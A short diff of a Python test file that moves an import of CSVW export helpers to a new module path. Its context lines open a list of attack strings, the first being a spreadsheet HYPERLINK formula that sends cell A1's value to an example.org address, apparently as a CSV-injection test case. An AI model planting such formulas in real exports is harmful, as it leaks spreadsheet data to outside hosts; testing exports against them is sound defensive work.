@@ -13,7 +13,7 @@ import pytest
 from frankpledge.cells import cell, guarded
 from frankpledge.cli.shared import show
 from frankpledge.packs.parish.rows import FIELDS, csv_text
-from frankpledge.releases.csvw import Field, quoted, table
+from frankpledge.releases.downloads.csvw import Field, quoted, table
 
 ATTACKS = (
     '=HYPERLINK("https://example.org/?x="&A1,"open")',
